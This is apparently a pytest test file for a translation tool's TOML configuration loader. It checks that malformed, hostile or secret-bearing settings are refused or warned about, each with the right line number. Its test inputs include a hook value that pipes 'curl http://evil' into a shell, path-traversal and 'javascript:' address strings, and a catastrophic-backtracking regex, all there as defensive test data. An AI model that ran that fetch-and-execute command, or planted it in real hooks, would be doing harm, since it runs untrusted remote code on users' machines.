"""dragoman.toml: what is wrong with it is said with its line, and nothing in it is ever run."""

from __future__ import annotations

import os
from pathlib import Path

import pytest

from dragoman import config
from dragoman.errors import ConfigError, DragomanError, UsageError
from dragoman.workflow import Project


def read(folder: Path, text: str) -> config.Config:
    (folder / config.FILE).write_bytes(text.encode("utf-8"))
    return config.load(folder)


HOSTILE_ADDRESSES = ("javascript:alert(1)", "//evil.example/", "https://", "https://a/(x", "/x)", "/<", '/"', "/a`b", "en/", "/a&b", "/*", "/|", "/\u202e", "/{name}/", "/\\\\")  # fmt: skip  # noqa: E501
HOSTILE_WAYS = ("../", "../{locale}", "../{name}/", "//{locale}/", "javascript:{locale}/", "../{locale}/?a=/", "a b/{locale}/")  # fmt: skip  # noqa: E501


@pytest.mark.parametrize(
    ("text", "line", "words"),
    [
        ("[project", 1, "is not TOML"),
        ('[project]\nname = "a"\nname = "b"\n', 3, "is not TOML"),
        ("a = " + "[" * 3000, 1, "is not TOML"),
        ("[engines]\nthreads = " + "9" * 5000, 2, "is not TOML"),
        ('[project]\nname = "a\x00"', 2, "NUL"),
        ("[exprot]\n", 1, "did you mean 'export'?"),
        ('\n[project]\nsorce = "en"\n', 3, "did you mean 'source'?"),
        ('[project]\ncatalogs = "../x"\ntargets = ["sv"]\n', 2, "inside the project"),
        ('[project]\ntargets = ["sv"]\ncatalogs = "../x"\n', 2, "unknown key 'targets'"),
        ('[project]\noutput = "/etc"\n', 2, "inside the project"),
        ('[project]\noutput = "C:\\\\x"\n', 2, "inside the project"),
        ('[project]\noutput = "a\\u001bb"\n', 2, "control character"),
        ('[terms]\nfiles = ["a\\u001bb.csv"]\n', 2, "inside the project"),
        ('[project]\noutput = "source_texts/out"\n', 2, "apart from 'source_texts'"),
        ('[project]\noutput = "locales"\n', 2, "apart from 'catalogs'"),
        ("[engines]\ntimeout = -1\n", 2, "from 0.1 to 300"),
        ("[engines]\nrate = nan\n", 2, "from 0.01 to 1000"),
        ("[engines]\nrate = inf\n", 2, "from 0.01 to 1000"),
        ("[engines]\nthreads = 999999999999\n", 2, "from 1 to 32"),
        ("[engines]\nthreads = true\n", 2, "a whole number"),
        ("engines = 3\n", 1, "must be a table"),
        ("engines.threads = 0\n", 1, "from 1 to 32"),
        ("\nengines = { chain = [], threads = 0 }\n", 2, "from 1 to 32"),
        ('[project]\nlocales = ["sv", "sv"]\n', 2, "once"),
        ('[project]\nlocales = ["../sv"]\n', 2, "is not a locale code"),
        ('[project]\nlocales = ["xx"]\n', 2, "nobody knows"),
        ('[project]\nlocales = ["sr_Latn", "fa"]\nname = 3\n', 3, "text in quotes"),
        ("[engines.locales]\nxx = []\n", 1, "nobody knows"),
        ('[hooks]\npost_export = "curl http://evil | sh"\n', 1, "unknown table 'hooks'"),
        ("[checks]\nrules = 3\n", 2, "must be tables"),
        ("[checks]\nrules = [{}]\n", 2, "'name' is missing"),
        ('[[checks.rules]]\nname = "A b"\n', 2, "no name of a rule"),
        ('[[checks.rules]]\nname = "a"\n', 1, "either 'pattern' or 'words'"),
        ('[[checks.rules]]\nname = "a"\npattern = "x"\nwords = ["y"]\n', 3, "either 'pattern' or 'words'"),
        ('[[checks.rules]]\nname = "a"\nwords = []\n', 3, "a list of texts"),
        (
            '[[checks.rules]]\nname = "a"\nwords = ["x"]\n\n[[checks.rules]]\nname = "a"\nwords = ["x"]\n',
            6,
            "two rules",
        ),
        (
            '[[checks.rules]]\nname = "a"\nwords = ["x"]\n[[checks.rules]]\nname = "b"\nword = ["x"]\n',
            6,
            "did you mean",
        ),
        ('[[checks.rules]]\nname = "a"\nwords = ["x"]\nin = "both"\n', 4, "one of target, source"),
        ('[[checks.rules]]\nname = "a"\nwords = ["x"]\nseverity = "off"\n', 4, "one of error, warning, info"),
        ('[[checks.rules]]\nname = "a"\nwords = ["x"]\nlocales = ["xx"]\n', 4, "not a locale code"),
        (f'[[checks.rules]]\nname = "a"\npattern = "{"x" * 501}"\n', 3, "500 characters at most"),
        ('[[checks.documents]]\npattern = "x"\nseverity = { numbers = "fatal" }\n', 3, "one of error, warning"),
        ('[[checks.documents]]\nseverity = { numbers = "off" }\n', 1, "'pattern' is missing"),
        ('[checks]\nplugins = ["../x"]\n', 2, "no name of a check"),
        ("[links]\nfollow = true\n", 2, "text in quotes"),
        ('[links]\nfolow = "../{locale}/"\n', 2, "did you mean 'follow'?"),
        *((f'[links]\nfollow = "{way}"\n', 2, "is no way to the documents") for way in HOSTILE_WAYS),
        ("[links]\nurls = 3\n", 2, "must be tables"),
        ('[[links.urls]]\nfrom = ""\nto = "/{locale}/"\n', 2, "'from' is missing"),
        ('[[links.urls]]\nfrom = "/en/"\n', 1, "'to' is missing"),
        ('[[links.urls]]\nfrom = "/en/"\ntoo = "/sq/"\n', 3, "did you mean 'to'?"),
        ('[[links.urls]]\nfrom = "/{locale}/"\nto = "/sq/"\n', 2, "'from' must be an address"),
        ('[links]\nurls = [{ from = "/en/", to = "/a b/" }]\n', 2, "'to' must be an address"),
        *((f"[[links.urls]]\nfrom = '{bad}'\nto = '/sq/'\n", 2, "must be an address") for bad in HOSTILE_ADDRESSES),
        *((f"[[links.urls]]\nfrom = '/en/'\nto = '{bad}'\n", 3, "must be an address") for bad in HOSTILE_ADDRESSES),
        (
            '[[links.urls]]\nfrom = "/en/"\nto = "/a/"\n[[links.urls]]\nfrom = "/en/"\nto = "/b/"\n',
            5,
            "two rules for '/en/'",
        ),
        ('[segment]\nbreak = "(a+)+$"\n', 1, "unknown table 'segment'"),
    ],
)
def test_what_is_wrong_first_is_named_with_its_line(tmp_path: Path, text: str, line: int, words: str) -> None:
    """One error, about the first fault in the file, with what was probably meant."""
    with pytest.raises(ConfigError) as refused:
        read(tmp_path, text)
    assert words in str(refused.value)
    assert refused.value.line == line
    assert "\n" not in str(refused.value)


def test_not_utf8_is_refused_with_its_line(tmp_path: Path) -> None:
    """As for every other file."""
    (tmp_path / config.FILE).write_bytes(b'[project]\nname = "caf\xe9"\n')
    with pytest.raises(ConfigError, match="not UTF-8") as refused:
        config.load(tmp_path)
    assert refused.value.line == 2


@pytest.mark.parametrize(
    ("text", "line"),
    [
        ('[engines]\nchain = ["memory"]\napi_key = "FAKE-0123"\n', 3),
        ('[mt.deepl]\napi_key = "FAKE-0123"\n', 2),
        ('[engines]\n"deepl-token" = "FAKE-0123"\n', 2),
        ('[ui]\nreviewer = "Arta"\npassword = "FAKE-0123"\n', 3),
        ('[memory]\nstore = "https://arta:FAKE-0123@tm.example/"\n', 2),
    ],
)
def test_a_secret_is_warned_about_and_never_shown(tmp_path: Path, text: str, line: int) -> None:
    """C07: whoever put a key into the file is told where it belongs; the key itself appears nowhere."""
    found = read(tmp_path, text)
    (warning,) = found.warnings
    assert f"{config.FILE}:{line}: " in warning
    assert "environment" in warning
    assert "FAKE-0123" not in warning
    assert "FAKE-0123" not in repr(found)


def test_a_table_that_is_more_than_secrets_is_unknown(tmp_path: Path) -> None:
    """A key beside it does not make a misspelt table right, and is not shown either."""
    with pytest.raises(ConfigError, match="unknown table 'mt'") as refused:
        read(tmp_path, '[mt]\nprovider = "x"\nurl = "http://user:pa55@127.0.0.1:9/"\n')
    assert "pa55" not in str(refused.value)


@pytest.mark.parametrize("kind", ["pipe", "folder", "link"])
def test_a_configuration_that_is_no_file_is_refused(tmp_path: Path, kind: str) -> None:
    """It is there, so this is no folder without a project; and nothing hangs."""
    path = tmp_path / config.FILE
    if kind == "pipe":
        os.mkfifo(path)
    elif kind == "folder":
        path.mkdir()
    else:
        path.symlink_to("/dev/zero")
    with pytest.raises(ConfigError):
        config.load(config.find(tmp_path))


def test_the_nearest_project_above_is_found(tmp_path: Path) -> None:
    """As git does."""
    read(tmp_path, "")
    (tmp_path / "a" / "b").mkdir(parents=True)
    assert config.find(tmp_path / "a" / "b") == tmp_path
    with pytest.raises(UsageError, match="dragoman init"):
        config.find(Path("/"))


@pytest.mark.parametrize(
    ("text", "line", "words"),
    [
        ('[engines]\nchain = ["memory", "googel"]\n', 2, "did you mean 'google'?"),
        ('[engines.locales]\nsv = ["deepl"]\n', 1, "there is no engine 'deepl'"),
        ('[checks]\nseverity = { nubmers = "off" }\n', 2, "did you mean 'numbers'?"),
    ],
)
def test_names_of_engines_and_checks_are_known_at_the_start(tmp_path: Path, text: str, line: int, words: str) -> None:
    """A misspelt engine is found by the first command, not when drafting begins."""
    read(tmp_path, text)
    with pytest.raises(ConfigError) as refused:
        Project.open(tmp_path)
    assert words in str(refused.value)
    assert refused.value.line == line


@pytest.mark.parametrize("name", ["", "backups", "journal", "drafts.sqlite"])
def test_state_that_leads_outside_is_refused(tmp_path: Path, name: str) -> None:
    """A cloned project must not make us write elsewhere by a link in its hidden folder."""
    root, outside = tmp_path / "project", tmp_path / "outside"
    root.mkdir()
    outside.mkdir()
    read(root, "")
    place = root / ".dragoman" / name
    place.parent.mkdir(exist_ok=True)
    place.symlink_to(outside)
    with pytest.raises(DragomanError, match="outside"):
        Project.open(root)
    assert list(outside.iterdir()) == []


def test_how_links_follow_is_read(tmp_path: Path) -> None:
    """A way, and rules of beginnings in either form that TOML has for them; off unless they are there."""
    assert read(tmp_path, "").links == config.LinksTable()
    inline = read(tmp_path, '[links]\nfollow = "../{locale}/"\nurls = [{ from = "/en/", to = "/{language}/" }]\n').links
    tables = read(
        tmp_path, '[links]\nfollow = "../{locale}/"\n[[links.urls]]\nfrom = "/en/"\nto = "/{language}/"\n'
    ).links
    assert inline == tables
    assert (inline.follow, inline.urls[0].begins, inline.urls[0].to) == ("../{locale}/", "/en/", "/{language}/")
